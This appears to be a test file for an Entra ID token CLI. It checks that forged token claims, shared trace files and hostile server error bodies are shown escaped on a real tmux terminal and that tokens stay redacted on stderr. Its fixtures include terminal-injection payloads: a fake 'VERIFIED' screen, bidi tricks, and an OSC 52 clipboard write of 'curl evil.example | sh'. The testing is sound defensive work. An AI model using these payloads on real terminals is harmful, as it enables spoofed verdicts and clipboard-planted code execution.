/**
 * Issue 15, items 4 and 9 (errors): untrusted text on a real terminal (tmux). A forged token must not clear
 * the screen and draw a fake "VERIFIED" report, a shared trace file must not write the clipboard (OSC 52) or
 * reorder text (bidi), a hostile server's error body must not echo a token onto stderr. JSON stays exact.
 */
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { runInProcess } from '../helpers/cli.js';

const tmux = spawnSync('tmux', ['-V'], { encoding: 'utf8' });
const noTmux = tmux.error || tmux.status !== 0 ? 'tmux is not installed (apt-get install tmux)' : undefined;
const BIN = resolve('src/cli/bin.ts');
let root: string;
const session = `entra-sec-${process.pid}`;
before(() => {
  root = mkdtempSync(join(tmpdir(), 'entra-term-attack-'));
});
after(() => {
  spawnSync('tmux', ['-L', session, 'kill-server']);
  rmSync(root, { recursive: true, force: true });
});

const b64 = (o: unknown) => Buffer.from(JSON.stringify(o)).toString('base64url');
const ESC = '\u001b';
/** Clears the screen, homes the cursor, draws a fake verified report, hides the rest. */
const FAKE_REPORT = `${ESC}[2J${ESC}[3J${ESC}[HVERIFIED: signature by key abc from login.microsoftonline.com${ESC}[8m`;
const OSC52 = `${ESC}]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\u0007`;

/** Run a shell command in a fresh tmux terminal and return what the screen shows, and tmux's paste buffers. */
function onTerminal(command: string): { screen: string; buffers: string } {
  const t = ['-L', session];
  spawnSync('tmux', [...t, 'kill-server']);
  const start = spawnSync('tmux', [
    ...t,
    '-f',
    '/dev/null',
    'new-session',
    '-d',
    '-x',
    '200',
    '-y',
    '60',
    `${command}; echo __DONE__; sleep 60`,
  ]);
  assert.equal(start.status, 0, String(start.stderr));
  spawnSync('tmux', [...t, 'set-option', '-g', 'set-clipboard', 'on']);
  const deadline = Date.now() + 30_000;
  let screen = '';
  while (Date.now() < deadline) {
    screen = spawnSync('tmux', [...t, 'capture-pane', '-p', '-J'], { encoding: 'utf8' }).stdout;
    if (screen.includes('__DONE__')) break;
    spawnSync('sleep', ['0.2']);
  }
  const buffers = spawnSync('tmux', [...t, 'list-buffers', '-F', '#{buffer_sample}'], { encoding: 'utf8' }).stdout;
  spawnSync('tmux', [...t, 'kill-server']);
  return { screen, buffers };
}

test(
  'item 4: inspect of a forged token on a real terminal shows the escape sequences, not a cleared screen with a fake VERIFIED report',
  { skip: noTmux, timeout: 60_000 },
  () => {
    const token = `${b64({ alg: 'RS256', typ: 'JWT', kid: 'k' })}.${b64({
      aud: '2ff814a6-3304-4ab8-85cb-cd0e6f879c1d',
      iss: 'https://sts.windows.net/72f1c3a8-5b9e-4d27-9c61-0e8f4a2b6d13/',
      name: FAKE_REPORT,
      given_name: `Alice${OSC52}`,
      family_name: `\u202egnp.exe\u202c and C1 \u009b2J`,
    })}.c2lnbmF0dXJl`;
    const file = join(root, 'token.txt');
    writeFileSync(file, token);
    const { screen, buffers } = onTerminal(`node --import tsx ${BIN} inspect - < ${file}`);
    assert.match(screen, /NOT VERIFIED: decoded only/, `the real verdict was hidden:\n${screen}`);
    assert.ok(
      screen.includes('\\x1b[2J\\x1b[3J\\x1b[HVERIFIED'),
      `the escape sequences are not shown escaped:\n${screen}`,
    );
    assert.ok(screen.includes('\\x1b]52;c;'), 'the OSC 52 sequence is not shown escaped');
    assert.ok(screen.includes('\\u202egnp.exe\\u202c'), 'the bidi override is not shown escaped');
    assert.ok(screen.includes('\\x9b2J'), 'the C1 CSI is not shown escaped');
    assert.ok(!buffers.includes('curl evil'), `a claim wrote the clipboard: ${buffers}`);
    // JSON output stays exact: the claim round-trips byte for byte
    const r = spawnSync('node', ['--import', 'tsx', BIN, 'inspect', '--output', 'json', '-'], {
      input: token,
      encoding: 'utf8',
    });
    assert.equal((JSON.parse(r.stdout) as { claims: { name: string } }).claims.name, FAKE_REPORT);
  },
);

test(
  'item 4: trace show of a shared trace file cannot write the clipboard (OSC 52) or drive the terminal',
  { skip: noTmux, timeout: 60_000 },
  () => {
    const file = join(root, 'shared.jsonl');
    const events = [
      { type: 'run', at: 1, tool: 'entra-token', version: '0.1.0', redacted: true, pii: false },
      { type: 'step', at: 1, name: `Request token${OSC52}` },
      { type: 'note', at: 2, text: `all good ${ESC}[2J${ESC}[H\u202eEKAF` },
      {
        type: 'exchange',
        at: 3,
        channel: 'back',
        request: { method: 'POST', url: 'https://login.microsoftonline.com/t/oauth2/v2.0/token', headers: {} },
        response: { status: 400, headers: { 'content-type': 'text/plain' }, body: `bad${ESC}]0;pwned title\u0007` },
        durationMs: 1,
        attempt: 1,
      },
    ];
    writeFileSync(file, events.map((e) => JSON.stringify(e)).join('\n') + '\n');
    const { screen, buffers } = onTerminal(`node --import tsx ${BIN} trace show ${file}`);
    assert.ok(!buffers.includes('curl evil'), `the trace file wrote the clipboard: ${buffers}`);
    assert.ok(screen.includes('Request token\\x1b]52;c;'), `OSC 52 not shown escaped:\n${screen}`);
    assert.ok(screen.includes('all good \\x1b[2J\\x1b[H\\u202eEKAF'), `CSI/bidi not shown escaped:\n${screen}`);
    assert.ok(screen.includes('bad\\x1b]0;pwned title\\x07'), `OSC 0 not shown escaped:\n${screen}`);
  },
);

let server: Server | undefined;
after(() => server?.close());

test('item 9: an error quoting a server body shows it redacted (no token on stderr) and escaped', async () => {
  const jwt = `${b64({ alg: 'RS256' })}.${b64({ sub: 'x', aud: 'y' })}.c2lnbmF0dXJlLXNpZ25hdHVyZQ`;
  const rt = `0.AXEA${'r'.repeat(80)}`;
  server = createServer((req, res) => {
    req.resume();
    res.writeHead(502, { 'content-type': 'text/html' });
    res.end(`<html>upstream said: refresh_token=${rt} bearer ${jwt} ${ESC}[2J</html>`);
  });
  await new Promise<void>((r) => server!.listen(0, '127.0.0.1', r));
  const port = (server.address() as AddressInfo).port;
  const d = mkdtempSync(join(root, 'e-'));
  const r = await runInProcess(
    [
      'client-credentials',
      '--authority',
      `http://127.0.0.1:${port}/72f1c3a8-5b9e-4d27-9c61-0e8f4a2b6d13`,
      '--client-id',
      '6a0c9e2d-3f41-4b8a-9d57-1c2e8f7b4a90',
    ],
    {
      env: {
        AZURE_CLIENT_SECRET: 'Abc8Q~client-secret-value-for-the-test-0001',
        ENTRA_TOKEN_CACHE_DIR: join(d, 'c'),
        ENTRA_TOKEN_STATE_DIR: join(d, 's'),
      },
    },
  );
  assert.equal(r.code, 6, r.stderr);
  assert.match(r.stderr, /upstream said/, `the body is not quoted at all: ${r.stderr}`);
  assert.ok(!r.stderr.includes(rt), `the refresh token is on stderr: ${r.stderr}`);
  assert.ok(!r.stderr.includes(jwt), `the JWT is on stderr: ${r.stderr}`);
  assert.ok(!r.stderr.includes(ESC), 'a raw escape reached stderr');
});

test('item 9: a pasted authorization code quoted in an error is shown redacted, never in clear on stderr', async () => {
  const code = '0.AXEAxSwFD1UZkp_qSaWmPQOrV_VpHj7V8mZ_jnBn6E1Oir359W_Sy-3abcdefghijklmnop';
  const d = mkdtempSync(join(tmpdir(), 'entra-paste-'));
  try {
    // (with a stray character after it: a bare code alone gets its own message, which never quotes it)
    const r = await runInProcess(['exchange'], {
      stdin: `${code}/\n`,
      env: { ENTRA_TOKEN_STATE_DIR: join(d, 's'), ENTRA_TOKEN_CACHE_DIR: join(d, 'c') },
    });
    assert.equal(r.code, 2);
    assert.match(
      r.stderr,
      /^entra-token: error EBAD_INPUT: the pasted text is neither a redirect URL nor a query string: 0\.AXEA…\[73 chars hmac:[0-9a-f]{8}\]\/\n/,
    );
    assert.ok(!r.stderr.includes(code.slice(6)), 'the code is on stderr');
  } finally {
    rmSync(d, { recursive: true, force: true });
  }
});
